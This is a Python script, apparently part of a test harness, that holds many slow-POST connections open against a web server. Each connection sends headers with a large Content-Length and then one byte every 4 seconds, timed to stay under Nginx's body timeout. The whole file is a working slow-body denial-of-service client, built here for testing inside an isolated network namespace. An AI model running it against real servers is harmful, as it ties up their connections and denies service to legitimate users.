"""Slow-body clients, as an attacker holds them: N connections to HOST, each sending a POST's
headers with a large Content-Length and then one byte of the body at a time.

    python3 slow_bodies.py HOST N SECONDS [PATH]

Prints `open N` once every connection has sent its headers, then keeps them until SECONDS
have passed or a line arrives on stdin, closes them all, and prints `closed`. Run inside a
network namespace of the test run's own (ip netns exec), so the connections come from that
namespace's address.
"""
import resource
import socket
import sys
import threading
import time

host, count, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
path = sys.argv[4] if len(sys.argv) > 4 else "/airbnb-onepage/"
HEAD = (
    f"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
    "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n"
).encode()

# One descriptor a connection: more than the usual soft limit (1,024) may be asked for.
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))

connections = []
for _ in range(count):
    connection = socket.create_connection((host, 80), timeout=10)
    connection.sendall(HEAD + b" ")
    connections.append(connection)
print(f"open {len(connections)}", flush=True)

stop = threading.Event()
threading.Thread(target=lambda: (sys.stdin.readline(), stop.set()), daemon=True).start()
deadline = time.monotonic() + seconds
# A byte every 4 s on each: less often than Nginx's client_body_timeout (10 s) would allow.
while not stop.wait(4) and time.monotonic() < deadline:
    for connection in connections:
        try:
            connection.sendall(b" ")
        except OSError:
            pass
for connection in connections:
    connection.close()
print("closed", flush=True)
